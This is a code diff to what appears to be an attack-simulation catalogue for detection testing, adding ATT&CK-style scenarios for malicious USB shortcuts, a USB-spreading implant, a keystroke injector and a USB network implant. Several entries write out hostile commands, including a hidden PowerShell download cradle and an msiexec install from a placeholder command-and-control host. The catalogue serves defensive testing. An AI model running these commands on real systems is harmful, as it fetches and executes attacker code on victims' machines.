@@ -94,12 +94,39 @@ export const initialAccess = [
       v(
         "usb-lnk",
         [
+          // The stick is plugged in; the user opens the LNK disguised as a folder on it.
+          { by: "@system", then: [{ id: "usb", kind: "device.connect", device: "usb-storage" }] },
           {
             cmd: 'C:\\Windows\\System32\\cmd.exe /RS/C "{{rand}}.DaT<{{rand}}.lnK|cmd"',
             as: "c",
             parent: "@explorer",
+            cwd: "E:\\",
+            reads: ["E:\\{{rand}}.DaT"],
           },
           { cmd: "msiexec /q /i http://{{c2}}/{{rand}}", parent: "c", net: [["{{c2}}", 80]] },
+        ],
+        { shell: "none" },
+      ),
+      // A USB-spreading implant (PlugX / Sogu style) copies itself into a hidden folder on each new removable
+      // drive and leaves an LNK named after the drive that runs it.
+      v(
+        "implant-copies-to-usb",
+        [
+          {
+            cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
+            as: "imp",
+            parent: "@explorer",
+            keep: true,
+          },
+          {
+            by: "@system",
+            then: [{ id: "usb", kind: "device.connect", device: "usb-storage" }],
+          },
+          {
+            by: "imp",
+            files: ["E:\\RECYCLER.BIN\\{{rand}}\\{{name}}.exe", "E:\\USB Drive.lnk"],
+          },
+          { cmd: "attrib.exe +h +s E:\\RECYCLER.BIN", parent: "imp" },
         ],
         { shell: "none" },
       ),
@@ -293,8 +320,40 @@ export const initialAccess = [
       { shell: "none" },
     ),
   ]),
-  t("T1200", "Hardware additions", "A rogue USB network adapter or keyboard attached.", [
-    v("pnp", ["pnputil /enum-devices /connected"]),
+  t("T1200", "Hardware additions", "A rogue USB keyboard, network adapter or drive attached.", [
+    // A keystroke injector (Rubber Ducky) enumerates as a keyboard and types Win+R and a download cradle.
+    v(
+      "keystroke-injector",
+      [
+        { by: "@system", then: [{ id: "usb", kind: "device.connect", device: "usb-keyboard" }] },
+        {
+          cmd: 'powershell.exe -w hidden -nop -c "iex (iwr http://{{c2}}/d -UseBasicParsing)"',
+          parent: "@explorer",
+          net: [["{{c2}}", 80]],
+          delay: 2500,
+        },
+      ],
+      { shell: "none" },
+    ),
+    // A USB Ethernet implant (LAN Turtle) placed on a workstation: the new adapter is the only host evidence.
+    v(
+      "usb-nic-implant",
+      [{ by: "@system", then: [{ id: "usb", kind: "device.connect", device: "usb-ethernet" }] }],
+      {
+        shell: "none",
+      },
+    ),
+    // The same drop on a host whose device installation restrictions forbid removable storage.
+    v(
+      "usb-storage-blocked",
+      [
+        {
+          by: "@system",
+          then: [{ id: "usb", kind: "device.connect", device: "usb-storage", blocked: true }],
+        },
+      ],
+      { shell: "none" },
+    ),
   ]),
   t("T1566", "Phishing", "A mail attachment opened from Outlook.", [
     v(
